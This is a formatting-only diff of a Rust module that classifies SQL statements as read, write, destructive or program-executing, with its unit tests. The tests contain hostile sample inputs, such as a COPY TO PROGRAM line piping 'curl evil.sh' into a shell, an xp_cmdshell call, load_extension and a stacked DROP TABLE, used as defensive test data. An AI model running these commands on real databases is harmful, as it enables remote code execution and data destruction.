@@ -25,27 +25,14 @@ pub(crate) struct SqlVerdict {
     pub keyword: &'static str,
 }
 
-const READ_KEYWORDS: &[&str] = &[
-    "SELECT", "WITH", "SHOW", "EXPLAIN", "DESCRIBE", "DESC", "PRAGMA", "VALUES", "TABLE",
-];
+const READ_KEYWORDS: &[&str] = &["SELECT", "WITH", "SHOW", "EXPLAIN", "DESCRIBE", "DESC", "PRAGMA", "VALUES", "TABLE"];
 const WRITE_KEYWORDS: &[&str] = &[
-    "INSERT", "UPDATE", "DELETE", "MERGE", "UPSERT", "REPLACE", "CREATE", "ALTER", "DROP",
-    "TRUNCATE", "RENAME", "GRANT", "REVOKE", "COMMENT", "VACUUM", "ANALYZE", "REINDEX", "CLUSTER",
-    "REFRESH", "SET", "RESET", "LOCK", "ATTACH", "DETACH", "COPY", "CALL", "EXEC", "EXECUTE", "DO",
-    "LOAD", "IMPORT", "UNLOAD",
+    "INSERT", "UPDATE", "DELETE", "MERGE", "UPSERT", "REPLACE", "CREATE", "ALTER", "DROP", "TRUNCATE", "RENAME",
+    "GRANT", "REVOKE", "COMMENT", "VACUUM", "ANALYZE", "REINDEX", "CLUSTER", "REFRESH", "SET", "RESET", "LOCK",
+    "ATTACH", "DETACH", "COPY", "CALL", "EXEC", "EXECUTE", "DO", "LOAD", "IMPORT", "UNLOAD",
 ];
-const NEUTRAL_KEYWORDS: &[&str] = &[
-    "BEGIN",
-    "COMMIT",
-    "ROLLBACK",
-    "START",
-    "END",
-    "SAVEPOINT",
-    "RELEASE",
-    "USE",
-    "PREPARE",
-    "DEALLOCATE",
-];
+const NEUTRAL_KEYWORDS: &[&str] =
+    &["BEGIN", "COMMIT", "ROLLBACK", "START", "END", "SAVEPOINT", "RELEASE", "USE", "PREPARE", "DEALLOCATE"];
 const DESTRUCTIVE_KEYWORDS: &[&str] = &["DELETE", "DROP", "TRUNCATE", "UPDATE", "REPLACE", "MERGE"];
 const SIDE_EFFECT_FUNCTIONS: &[&str] = &[
     "pg_terminate_backend",
@@ -78,12 +65,7 @@ pub(crate) fn looks_like_sql(text: &str) -> bool {
 }
 
 fn keyword_of(word: &str) -> Option<&'static str> {
-    READ_KEYWORDS
-        .iter()
-        .chain(WRITE_KEYWORDS)
-        .chain(NEUTRAL_KEYWORDS)
-        .find(|k| k.eq_ignore_ascii_case(word))
-        .copied()
+    READ_KEYWORDS.iter().chain(WRITE_KEYWORDS).chain(NEUTRAL_KEYWORDS).find(|k| k.eq_ignore_ascii_case(word)).copied()
 }
 
 /// Skips whitespace, `--` and `/* */` comments and opening brackets.
@@ -103,10 +85,7 @@ fn skip_noise(mut t: &str) -> &str {
 }
 
 fn first_word(t: &str) -> &str {
-    let n = t
-        .bytes()
-        .take_while(|b| b.is_ascii_alphabetic() || *b == b'_')
-        .count();
+    let n = t.bytes().take_while(|b| b.is_ascii_alphabetic() || *b == b'_').count();
     &t[..n]
 }
 
@@ -143,8 +122,7 @@ fn statements(text: &str) -> impl Iterator<Item = &str> {
 
 /// Lower-case identifier-ish words of a statement, quotes skipped roughly.
 fn has_word(stmt: &str, word: &str) -> bool {
-    stmt.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
-        .any(|w| w.eq_ignore_ascii_case(word))
+    stmt.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).any(|w| w.eq_ignore_ascii_case(word))
 }
 
 /// Judges a SQL text. `None` when it does not look like SQL.
@@ -167,31 +145,20 @@ pub(crate) fn judge(text: &str) -> Option<SqlVerdict> {
         if let Some(v) = v {
             let better = match best {
                 None => true,
-                Some(b) => {
-                    v.class > b.class || (v.class == b.class && v.destructive && !b.destructive)
-                }
+                Some(b) => v.class > b.class || (v.class == b.class && v.destructive && !b.destructive),
             };
             if better {
                 best = Some(v);
             }
         }
     }
-    best.or(Some(SqlVerdict {
-        class: Class::Read,
-        destructive: false,
-        keyword: "SELECT",
-    }))
+    best.or(Some(SqlVerdict { class: Class::Read, destructive: false, keyword: "SELECT" }))
 }
 
 fn judge_statement(kw: &'static str, body: &str) -> Option<SqlVerdict> {
-    let runs_program = (kw == "COPY" && has_word(body, "program"))
-        || PROGRAM_MARKERS.iter().any(|m| has_word(body, m));
+    let runs_program = (kw == "COPY" && has_word(body, "program")) || PROGRAM_MARKERS.iter().any(|m| has_word(body, m));
     if runs_program {
-        return Some(SqlVerdict {
-            class: Class::Execute,
-            destructive: false,
-            keyword: kw,
-        });
+        return Some(SqlVerdict { class: Class::Execute, destructive: false, keyword: kw });
     }
     if NEUTRAL_KEYWORDS.contains(&kw) {
         return None;
@@ -208,23 +175,11 @@ fn judge_statement(kw: &'static str, body: &str) -> Option<SqlVerdict> {
                 return judge_statement(k, inner);
             }
         }
-        return Some(SqlVerdict {
-            class: Class::Read,
-            destructive: false,
-            keyword: kw,
-        });
+        return Some(SqlVerdict { class: Class::Read, destructive: false, keyword: kw });
     }
     if kw == "PRAGMA" {
-        let class = if body.contains('=') {
-            Class::Write
-        } else {
-            Class::Read
-        };
-        return Some(SqlVerdict {
-            class,
-            destructive: false,
-            keyword: kw,
-        });
+        let class = if body.contains('=') { Class::Write } else { Class::Read };
+        return Some(SqlVerdict { class, destructive: false, keyword: kw });
     }
     if READ_KEYWORDS.contains(&kw) {
         // Data-modifying CTEs, SELECT INTO, side-effecting functions.
@@ -238,30 +193,14 @@ fn judge_statement(kw: &'static str, body: &str) -> Option<SqlVerdict> {
             }
         }
         if (kw == "SELECT" || kw == "WITH") && has_word(body, "into") && !has_word(body, "insert") {
-            return Some(SqlVerdict {
-                class: Class::Write,
-                destructive: false,
-                keyword: kw,
-            });
+            return Some(SqlVerdict { class: Class::Write, destructive: false, keyword: kw });
         }
         if SIDE_EFFECT_FUNCTIONS.iter().any(|f| has_word(body, f)) {
-            return Some(SqlVerdict {
-                class: Class::Write,
-                destructive: false,
-                keyword: kw,
-            });
+            return Some(SqlVerdict { class: Class::Write, destructive: false, keyword: kw });
         }
-        return Some(SqlVerdict {
-            class: Class::Read,
-            destructive: false,
-            keyword: kw,
-        });
+        return Some(SqlVerdict { class: Class::Read, destructive: false, keyword: kw });
     }
-    Some(SqlVerdict {
-        class: Class::Write,
-        destructive: DESTRUCTIVE_KEYWORDS.contains(&kw),
-        keyword: kw,
-    })
+    Some(SqlVerdict { class: Class::Write, destructive: DESTRUCTIVE_KEYWORDS.contains(&kw), keyword: kw })
 }
 
 #[cfg(test)]
@@ -276,10 +215,7 @@ mod tests {
     fn selects_are_read() {
         assert_eq!(class("SELECT * FROM users WHERE id = 1"), Some(Class::Read));
         assert_eq!(class("  -- hi\n /* c */ (select 1)"), Some(Class::Read));
-        assert_eq!(
-            class("WITH t AS (SELECT 1) SELECT * FROM t"),
-            Some(Class::Read)
-        );
+        assert_eq!(class("WITH t AS (SELECT 1) SELECT * FROM t"), Some(Class::Read));
         assert_eq!(class("EXPLAIN SELECT 1"), Some(Class::Read));
         assert_eq!(class("PRAGMA table_info(users)"), Some(Class::Read));
         assert_eq!(class("SHOW TABLES"), Some(Class::Read));
@@ -294,29 +230,17 @@ mod tests {
         assert_eq!((v.class, v.destructive), (Class::Write, false));
         assert_eq!(class("SELECT 1; DROP TABLE users"), Some(Class::Write));
         assert!(judge("SELECT 1; DROP TABLE users").unwrap().destructive);
-        assert_eq!(
-            class("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"),
-            Some(Class::Write)
-        );
+        assert_eq!(class("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"), Some(Class::Write));
         assert_eq!(class("SELECT * INTO backup FROM users"), Some(Class::Write));
-        assert_eq!(
-            class("SELECT pg_terminate_backend(123)"),
-            Some(Class::Write)
-        );
+        assert_eq!(class("SELECT pg_terminate_backend(123)"), Some(Class::Write));
         assert_eq!(class("EXPLAIN ANALYZE DELETE FROM t"), Some(Class::Write));
         assert_eq!(class("PRAGMA journal_mode = WAL"), Some(Class::Write));
-        assert_eq!(
-            class("BEGIN; UPDATE t SET a = 1; COMMIT"),
-            Some(Class::Write)
-        );
+        assert_eq!(class("BEGIN; UPDATE t SET a = 1; COMMIT"), Some(Class::Write));
     }
 
     #[test]
     fn programs_are_execute() {
-        assert_eq!(
-            class("COPY t TO PROGRAM 'curl evil.sh | sh'"),
-            Some(Class::Execute)
-        );
+        assert_eq!(class("COPY t TO PROGRAM 'curl evil.sh | sh'"), Some(Class::Execute));
         assert_eq!(class("EXEC xp_cmdshell 'dir'"), Some(Class::Execute));
         assert_eq!(class("SELECT load_extension('x.so')"), Some(Class::Execute));
     }
